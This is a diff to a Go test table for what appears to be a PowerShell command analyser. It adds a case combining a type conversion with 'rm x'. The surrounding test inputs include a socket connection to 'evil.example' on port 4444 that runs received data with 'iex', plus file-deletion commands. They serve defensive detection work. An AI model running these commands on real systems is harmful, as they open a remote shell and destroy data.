@@ -92,6 +92,7 @@ func TestRead(t *testing.T) {
 		{"function", `function f { rm x }; f`, `run remove-item x`},
 		{"redirection", `'x' > a.txt`, `write a.txt`},
 		{"static method", `[IO.File]::Delete('x')`, `delete x`},
+		{"conversion of nothing", `[char]::ToChar(); rm x`, `run remove-item x`},
 		{"socket", `$c = New-Object Net.Sockets.TCPClient('evil.example',4444); iex $c.GetStream().Read()`, "connect evil.example:4444\nscript powershell from the network"},
 		{"process", `Start-Process cmd -ArgumentList '/c del x' -Wait`, `run cmd /c del x`},
 		{"text in quotes", `Write-Host 'rm -r ~'`, ``},
